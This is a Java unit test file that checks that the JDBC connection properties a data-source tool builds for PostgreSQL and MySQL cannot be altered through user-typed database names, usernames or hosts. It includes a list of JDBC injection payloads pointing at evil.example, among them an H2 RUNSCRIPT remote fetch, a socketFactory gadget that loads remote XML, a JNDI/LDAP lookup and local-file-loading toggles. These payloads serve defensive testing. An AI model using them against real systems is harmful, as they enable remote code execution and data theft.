package io.gazetteer.common.source;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.entry;

import com.mysql.cj.conf.ConnectionUrl;
import com.mysql.cj.conf.HostInfo;
import io.gazetteer.common.source.mysql.MySqlProperties;
import io.gazetteer.common.source.mysql.MySqlSocketFactory;
import io.gazetteer.common.source.postgresql.PostgresProperties;
import io.gazetteer.common.source.postgresql.PostgresSocketFactory;
import java.net.InetAddress;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Properties;
import java.util.Random;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.postgresql.PGProperty;

class DriverPropertiesTest {

  private static final InetAddress CHECKED = InetAddress.ofLiteral("192.0.2.7");

  private static final String SMUGGLED =
      "x?socketFactory=evil&allowLoadLocalInfile=true#/../%3F&autoDeserialize=true,(a=b)";

  private static final List<String> ATTACKS =
      List.of(
          SMUGGLED,
          "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
          "jdbc:h2:tcp://evil.example/~/x",
          "h2",
          "org.h2.Driver",
          "jdbc:sqlite::memory:",
          "jdbc:postgresql://evil.example:1/x?socketFactory=",
          "jdbc:mysql://evil.example:1/x?allowLoadLocalInfile=true",
          "?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
              + "&socketFactoryArg=http://evil.example/x.xml",
          "?loggerLevel=TRACE&loggerFile=/tmp/x.jsp",
          "&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
          "&statementInterceptors=x&detectCustomCollations=true&autoDeserialize=yes",
          "?sslfactory=x&sslhostnameverifier=x&authenticationPluginClassName=x",
          "address=(host=evil.example)(port=1)(allowUrlInLocalInfile=true)",
          "(host=evil.example,port=1,user=x)",
          "evil.example:1,evil.example:2/",
          "%3FallowLoadLocalInfile%3Dtrue",
          "${jndi:ldap://evil.example/x}",
          "' host='evil.example");

  @Test
  void pgjdbcIsToldTheListedKeysAndNoOther() {
    assertThat(postgres("db").stringPropertyNames())
        .containsExactlyInAnyOrder(
            "PGHOST",
            "PGPORT",
            "PGDBNAME",
            "user",
            "password",
            "ApplicationName",
            "options",
            "connectTimeout",
            "socketTimeout",
            "cancelSignalTimeout",
            "socketFactory",
            "socketFactoryArg",
            "tcpKeepAlive",
            "sslmode",
            "gssEncMode",
            "scramMaxIterations",
            "assumeMinServerVersion",
            "prepareThreshold",
            "logServerErrorDetail");
  }

  /** A pooler refuses a first packet with settings that it does not keep. */
  @Test
  void aFirstPacketForPoolersHoldsNoSettings() {
    var login = login(DatabaseKind.POSTGRESQL, "db");
    var bare = PostgresProperties.throughPooler(login).stringPropertyNames();

    assertThat(PostgresProperties.of(login).stringPropertyNames())
        .containsAll(bare)
        .filteredOn(key -> !bare.contains(key))
        .containsExactlyInAnyOrder("options", "assumeMinServerVersion");
  }

  @Test
  void connectorJIsToldTheListedKeysAndNoOther() {
    assertThat(mySql("db").stringPropertyNames())
        .containsExactlyInAnyOrder(
            "host",
            "port",
            "dbname",
            "user",
            "password",
            "connectionAttributes",
            "connectTimeout",
            "socketTimeout",
            "tcpKeepAlive",
            "sslMode",
            "allowPublicKeyRetrieval",
            "characterEncoding",
            "netTimeoutForStreamingResults",
            "disabledAuthenticationPlugins",
            "allowLoadLocalInfile",
            "allowUrlInLocalInfile",
            "allowMultiQueries",
            "maxAllowedPacket",
            "socketFactory",
            "gazetteerTls",
            "createDatabaseIfNotExist",
            "useServerPrepStmts");
  }

  @Test
  void connectorJMayNotSendLocalFiles() {
    assertThat(mySql("db"))
        .contains(
            entry("allowLoadLocalInfile", "false"),
            entry("allowUrlInLocalInfile", "false"),
            entry("allowMultiQueries", "false"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"shop", SMUGGLED, "a/b", "a b", "%2e", "ключ", "'\"\\"})
  void pgjdbcTakesTheDatabaseNameAsItIs(String dbName) {
    Properties seen = org.postgresql.Driver.parseURL(PostgresProperties.URL, postgres(dbName));

    assertThat(seen).isNotNull();
    assertThat(PGProperty.PG_DBNAME.getOrDefault(seen)).isEqualTo(dbName);
    assertThat(PGProperty.PG_HOST.getOrDefault(seen)).isEqualTo("192.0.2.7");
    assertThat(PGProperty.PG_PORT.getOrDefault(seen)).isEqualTo("5432");
    // Ours, and none that a database name has smuggled in.
    assertThat(PGProperty.SOCKET_FACTORY.getOrDefault(seen))
        .isEqualTo(PostgresSocketFactory.class.getName());
  }

  @ParameterizedTest
  @ValueSource(strings = {"shop", SMUGGLED, "a/b", "a b", "%2e", "ключ", "'\"\\"})
  void connectorJTakesTheDatabaseNameAsItIs(String dbName) {
    ConnectionUrl seen = ConnectionUrl.getConnectionUrlInstance(MySqlProperties.URL, mySql(dbName));

    assertThat(seen.getMainHost().getDatabase()).isEqualTo(dbName);
    assertThat(seen.getMainHost().getHost()).isEqualTo("192.0.2.7");
    assertThat(seen.getMainHost().getPort()).isEqualTo(5432);
    assertThat(seen.getHostsList()).hasSize(1);
    assertThat(seen.getMainHost().getHostProperties())
        .contains(
            entry("allowLoadLocalInfile", "false"),
            entry("socketFactory", MySqlSocketFactory.class.getName()));
  }

  /** Values that someone types change the values they are, and nothing else. */
  @ParameterizedTest
  @EnumSource(names = {"POSTGRESQL", "MYSQL"})
  void nothingTypedEverAddsOrChangesAProperty(DatabaseKind kind) {
    Random random = new Random(42);
    Map<Object, Object> expected = others(properties(login(kind, "db")));
    int hosts = 0;
    for (int i = 0; i < 10_000; i++) {
      SourceAddress source = source(kind, "n" + noise(random), "u" + noise(random));
      try {
        source =
            new SourceAddress(
                kind, noise(random), 5432, source.dbName(), source.username(), source.tls());
        hosts++;
      } catch (IllegalArgumentException e) {
        // No host, and no address that could be dialled.
      }
      Properties seen =
          properties(new SourceLogin(source, CHECKED, noise(random), SourceTimeouts.defaults()));
      assertThat(others(seen)).isEqualTo(expected);
      assertThat(placeSeenBy(kind, seen))
          .containsExactly("192.0.2.7", source.dbName(), source.username());
    }
    assertThat(hosts).isPositive();
  }

  /** The host, database and user that a driver reads out of what it is given. */
  private static List<@Nullable String> placeSeenBy(DatabaseKind kind, Properties properties) {
    if (kind == DatabaseKind.POSTGRESQL) {
      Properties seen =
          Objects.requireNonNull(
              org.postgresql.Driver.parseURL(PostgresProperties.URL, properties));
      return Stream.of(PGProperty.PG_HOST, PGProperty.PG_DBNAME, PGProperty.USER)
          .<@Nullable String>map(property -> property.getOrDefault(seen))
          .toList();
    }
    HostInfo host =
        ConnectionUrl.getConnectionUrlInstance(MySqlProperties.URL, properties).getMainHost();
    return Arrays.asList(host.getHost(), host.getDatabase(), host.getUser());
  }

  private static Map<Object, Object> others(Properties properties) {
    Map<Object, Object> others = new HashMap<>(properties);
    others.keySet().removeAll(List.of("PGDBNAME", "dbname", "user", "password"));
    others.keySet().removeAll(List.of("socketFactoryArg", "gazetteerTls"));
    return others;
  }

  private static Properties properties(SourceLogin login) {
    return login.isPostgres() ? PostgresProperties.of(login) : MySqlProperties.of(login);
  }

  /** Characters with a meaning in URLs, and one time in two a known attack among them. */
  private static String noise(Random random) {
    StringBuilder name = new StringBuilder();
    String alphabet = "abc123.?&=#/%\\'\" ;,()-:@\n";
    for (int length = random.nextInt(40); length > 0; length--) {
      name.append(alphabet.charAt(random.nextInt(alphabet.length())));
    }
    return random.nextBoolean()
        ? name.toString()
        : name.insert(
                random.nextInt(name.length() + 1), ATTACKS.get(random.nextInt(ATTACKS.size())))
            .toString();
  }

  private static Properties postgres(String dbName) {
    return PostgresProperties.of(login(DatabaseKind.POSTGRESQL, dbName));
  }

  private static Properties mySql(String dbName) {
    return MySqlProperties.of(login(DatabaseKind.MYSQL, dbName));
  }

  private static SourceLogin login(DatabaseKind kind, String dbName) {
    return new SourceLogin(
        source(kind, dbName, "user"), CHECKED, "secret", SourceTimeouts.defaults());
  }

  private static SourceAddress source(DatabaseKind kind, String dbName, String username) {
    return new SourceAddress(kind, "db.example.org", 5432, dbName, username, TlsSettings.DEFAULTS);
  }
}
